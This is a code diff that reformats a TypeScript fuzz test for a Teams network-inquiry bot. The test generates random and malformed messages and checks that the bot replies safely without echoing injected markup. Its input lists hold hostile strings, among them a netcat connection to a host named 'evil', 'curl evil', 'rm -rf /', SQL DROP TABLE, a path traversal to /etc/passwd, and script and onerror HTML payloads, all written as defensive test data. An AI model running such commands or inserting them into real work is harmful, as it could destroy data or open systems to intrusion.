@@ -21,46 +21,205 @@ const r = rng(20261126);
 const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
 const int = (n: number) => Math.floor(r() * n);
 
-const UNICODE = ['é', 'ß', 'Ω', 'Ж', '中', '𝔘', '🔥', '👩‍💻', '\u200b', '\u202e', '\u0301', 'ﷺ', '\ud83d', '\u0000', '\t', '\n', '\\', '"', "'", '<', '>', '&', '{', '}', '$', '`', '|', ';', '*', '_', '[', ']', '(', ')', '#', '~'];
-const WORDS = ['public', 'ip', 'of', 'pod', 'sqlapi', 'server', 'route', 'sqlapilb', 'what', 'is', 'can', 'reach', 'path', '->', 'egress', 'inbound', 'lbs', 'dns', 'resolve', 'from', 'to', '-n', 'project1', 'help', 'where', '1433', 'svc', 'the', 'and', 'what about'];
-const INJECTIONS = ['**INJ**', '[INJ](https://evil.example)', '<script>INJ</script>', '${INJ}', '{"type":"AdaptiveCard","body":[]}', '<at>INJ</at>', '# INJ', '- INJ', '`INJ`', '![INJ](https://evil.example/x.png)', '<img src=x onerror=INJ>'];
-const SHELL = ["'; DROP TABLE pods; --", '$(rm -rf /)', '`id`', '| nc evil 4444', '&& curl evil', '../../etc/passwd', '%00', '{{7*7}}', '\\u0000'];
-const IPS = ['999.1.1.1', '300.300.300.300', '10.0.0.256', '1.2.3', '::1', 'fe80::1', '10.129.2.7', '20.105.84.161', '0.0.0.0', '255.255.255.255'];
+const UNICODE = [
+  'é',
+  'ß',
+  'Ω',
+  'Ж',
+  '中',
+  '𝔘',
+  '🔥',
+  '👩‍💻',
+  '\u200b',
+  '\u202e',
+  '\u0301',
+  'ﷺ',
+  '\ud83d',
+  '\u0000',
+  '\t',
+  '\n',
+  '\\',
+  '"',
+  "'",
+  '<',
+  '>',
+  '&',
+  '{',
+  '}',
+  '$',
+  '`',
+  '|',
+  ';',
+  '*',
+  '_',
+  '[',
+  ']',
+  '(',
+  ')',
+  '#',
+  '~',
+];
+const WORDS = [
+  'public',
+  'ip',
+  'of',
+  'pod',
+  'sqlapi',
+  'server',
+  'route',
+  'sqlapilb',
+  'what',
+  'is',
+  'can',
+  'reach',
+  'path',
+  '->',
+  'egress',
+  'inbound',
+  'lbs',
+  'dns',
+  'resolve',
+  'from',
+  'to',
+  '-n',
+  'project1',
+  'help',
+  'where',
+  '1433',
+  'svc',
+  'the',
+  'and',
+  'what about',
+];
+const INJECTIONS = [
+  '**INJ**',
+  '[INJ](https://evil.example)',
+  '<script>INJ</script>',
+  '${INJ}',
+  '{"type":"AdaptiveCard","body":[]}',
+  '<at>INJ</at>',
+  '# INJ',
+  '- INJ',
+  '`INJ`',
+  '![INJ](https://evil.example/x.png)',
+  '<img src=x onerror=INJ>',
+];
+const SHELL = [
+  "'; DROP TABLE pods; --",
+  '$(rm -rf /)',
+  '`id`',
+  '| nc evil 4444',
+  '&& curl evil',
+  '../../etc/passwd',
+  '%00',
+  '{{7*7}}',
+  '\\u0000',
+];
+const IPS = [
+  '999.1.1.1',
+  '300.300.300.300',
+  '10.0.0.256',
+  '1.2.3',
+  '::1',
+  'fe80::1',
+  '10.129.2.7',
+  '20.105.84.161',
+  '0.0.0.0',
+  '255.255.255.255',
+];
 
 function text(): string {
   // huge texts are rarer (they are slow to send), still well over a hundred of them
   if (int(60) === 0) return 'x'.repeat(100_000 + int(20_000)) + pick(WORDS);
   switch (int(9)) {
-    case 0: return Array.from({ length: int(200) }, () => pick(UNICODE)).join('');
-    case 1: return `${pick(WORDS)} ${'é'.repeat(int(3000))} ${pick(WORDS)}`;
-    case 2: return `${pick(['public ip of pod', 'where is pod', 'how does traffic reach route', 'what is'])} ${pick(INJECTIONS)}`;
-    case 3: return `${pick(WORDS)} ${pick(SHELL)} ${pick(WORDS)}`;
-    case 4: return `what is ${pick(IPS)}`;
-    case 5: return `public ip of ${'a'.repeat(254 + int(200))}`;
-    case 6: return pick(['', ' ', '\n\n', '\u200b']);
-    case 7: return `<at>${pick(['packet-path', 'Alice', '<at>x</at>', ''])}</at> ${Array.from({ length: int(8) }, () => pick(WORDS)).join(' ')}`;
-    default: return Array.from({ length: 1 + int(10) }, () => pick(r() < 0.2 ? INJECTIONS : WORDS)).join(' ');
+    case 0:
+      return Array.from({ length: int(200) }, () => pick(UNICODE)).join('');
+    case 1:
+      return `${pick(WORDS)} ${'é'.repeat(int(3000))} ${pick(WORDS)}`;
+    case 2:
+      return `${pick(['public ip of pod', 'where is pod', 'how does traffic reach route', 'what is'])} ${pick(INJECTIONS)}`;
+    case 3:
+      return `${pick(WORDS)} ${pick(SHELL)} ${pick(WORDS)}`;
+    case 4:
+      return `what is ${pick(IPS)}`;
+    case 5:
+      return `public ip of ${'a'.repeat(254 + int(200))}`;
+    case 6:
+      return pick(['', ' ', '\n\n', '\u200b']);
+    case 7:
+      return `<at>${pick(['packet-path', 'Alice', '<at>x</at>', ''])}</at> ${Array.from({ length: int(8) }, () => pick(WORDS)).join(' ')}`;
+    default:
+      return Array.from({ length: 1 + int(10) }, () => pick(r() < 0.2 ? INJECTIONS : WORDS)).join(' ');
   }
 }
 
-const VALUES = [null, [], 'string', 42, { question: 123 }, { question: { x: 1 } }, { intent: 'egress' }, { question: 'public ip of sqlapi', intent: '../../etc' }, { question: 'what is 10.129.2.7', full: 'yes' }, { question: '**INJ**', intent: 'what-is' }, { question: 'x'.repeat(5000) }];
+const VALUES = [
+  null,
+  [],
+  'string',
+  42,
+  { question: 123 },
+  { question: { x: 1 } },
+  { intent: 'egress' },
+  { question: 'public ip of sqlapi', intent: '../../etc' },
+  { question: 'what is 10.129.2.7', full: 'yes' },
+  { question: '**INJ**', intent: 'what-is' },
+  { question: 'x'.repeat(5000) },
+];
 
 let seq = 0;
-function activity(serviceUrl: string): { body: unknown; valid: boolean; typed: string } {
+function activity(serviceUrl: string): {
+  body: unknown;
+  valid: boolean;
+  typed: string;
+} {
   const id = `fz-${++seq}`;
-  const base: any = { type: 'message', id, channelId: 'msteams', serviceUrl, from: { id: `u-${seq % 97}`, name: 'Fuzz', aadObjectId: `aad-${seq % 97}` }, recipient: { id: 'bot-1', name: 'packet-path' }, conversation: { id: `c-${seq}`, conversationType: pick(['personal', 'channel', 'groupChat']), tenantId: 't' }, locale: 'en-US' };
+  const base: any = {
+    type: 'message',
+    id,
+    channelId: 'msteams',
+    serviceUrl,
+    from: { id: `u-${seq % 97}`, name: 'Fuzz', aadObjectId: `aad-${seq % 97}` },
+    recipient: { id: 'bot-1', name: 'packet-path' },
+    conversation: {
+      id: `c-${seq}`,
+      conversationType: pick(['personal', 'channel', 'groupChat']),
+      tenantId: 't',
+    },
+    locale: 'en-US',
+  };
   const kind = int(20);
   if (kind === 0) {
     // malformed activities
-    const broken = pick([{ ...base, conversation: undefined }, { ...base, serviceUrl: 'not a url' }, { ...base, text: { nested: true } }, { ...base, type: undefined }, [base], 'a string', { ...base, type: 42 }]);
+    const broken = pick([
+      { ...base, conversation: undefined },
+      { ...base, serviceUrl: 'not a url' },
+      { ...base, text: { nested: true } },
+      { ...base, type: undefined },
+      [base],
+      'a string',
+      { ...base, type: 42 },
+    ]);
     return { body: broken, valid: false, typed: '' };
   }
   if (kind === 1) {
     const value = pick(VALUES);
-    return { body: { ...base, text: undefined, value }, valid: true, typed: JSON.stringify(value) };
+    return {
+      body: { ...base, text: undefined, value },
+      valid: true,
+      typed: JSON.stringify(value),
+    };
   }
   const t = text();
-  const entities = t.includes('<at>packet-path</at>') ? [{ type: 'mention', mentioned: { id: 'bot-1', name: 'packet-path' }, text: '<at>packet-path</at>' }] : undefined;
+  const entities = t.includes('<at>packet-path</at>')
+    ? [
+        {
+          type: 'mention',
+          mentioned: { id: 'bot-1', name: 'packet-path' },
+          text: '<at>packet-path</at>',
+        },
+      ]
+    : undefined;
   return { body: { ...base, text: t, entities }, valid: true, typed: t };
 }
 
@@ -72,7 +231,13 @@ const onUnhandled = (e: unknown) => unhandled.push(e);
 beforeAll(async () => {
   process.on('unhandledRejection', onUnhandled);
   connector = await new Connector().start();
-  bot = await startServer(loadConfig({ PORT: '0', PACKET_PATH_RATE_LIMIT_PER_MINUTE: '0', LOG_LEVEL: 'silent' }));
+  bot = await startServer(
+    loadConfig({
+      PORT: '0',
+      PACKET_PATH_RATE_LIMIT_PER_MINUTE: '0',
+      LOG_LEVEL: 'silent',
+    }),
+  );
 });
 afterAll(async () => {
   process.off('unhandledRejection', onUnhandled);
@@ -90,7 +255,12 @@ test(`${COUNT} generated messages: one well-formed reply each, 400 for malformed
         next++;
         const a = activity(connector.url);
         const status = await post(url, a.body);
-        sent.push({ id: (a.body as { id?: string })?.id, valid: a.valid, typed: a.typed, status });
+        sent.push({
+          id: (a.body as { id?: string })?.id,
+          valid: a.valid,
+          typed: a.typed,
+          status,
+        });
       }
     }),
   );
@@ -100,7 +270,9 @@ test(`${COUNT} generated messages: one well-formed reply each, 400 for malformed
   expect(sent.filter((s) => s.valid).every((s) => s.status === 200)).toBe(true);
 
   const replies = new Map<string, any[]>();
-  for (const a of connector.activities) if (a.body?.type === 'message' && a.body.replyToId) replies.set(a.body.replyToId, [...(replies.get(a.body.replyToId) ?? []), a.body]);
+  for (const a of connector.activities)
+    if (a.body?.type === 'message' && a.body.replyToId)
+      replies.set(a.body.replyToId, [...(replies.get(a.body.replyToId) ?? []), a.body]);
   const problems: string[] = [];
   for (const s of sent.filter((x) => x.valid)) {
     const got = replies.get(s.id!) ?? [];
@@ -111,9 +283,14 @@ test(`${COUNT} generated messages: one well-formed reply each, 400 for malformed
     const m = got[0];
     if (typeof m.text !== 'string' || !m.text) problems.push(`${s.id}: no text`);
     const card = m.attachments?.[0];
-    if (card && (card.contentType !== 'application/vnd.microsoft.card.adaptive' || card.content?.version !== '1.5')) problems.push(`${s.id}: bad card`);
+    if (card && (card.contentType !== 'application/vnd.microsoft.card.adaptive' || card.content?.version !== '1.5'))
+      problems.push(`${s.id}: bad card`);
     const json = JSON.stringify(card?.content ?? '');
-    if (/INJ/.test(s.typed) && (/(?<!\\\\)\*\*INJ\*\*/.test(json) || /(?<!\\\\)\[INJ\]\(/.test(json) || /\$\{INJ\}/.test(json))) problems.push(`${s.id}: injection echoed: ${json.slice(0, 200)}`);
+    if (
+      /INJ/.test(s.typed) &&
+      (/(?<!\\\\)\*\*INJ\*\*/.test(json) || /(?<!\\\\)\[INJ\]\(/.test(json) || /\$\{INJ\}/.test(json))
+    )
+      problems.push(`${s.id}: injection echoed: ${json.slice(0, 200)}`);
   }
   expect(problems.slice(0, 10)).toEqual([]);
   expect(unhandled).toEqual([]);
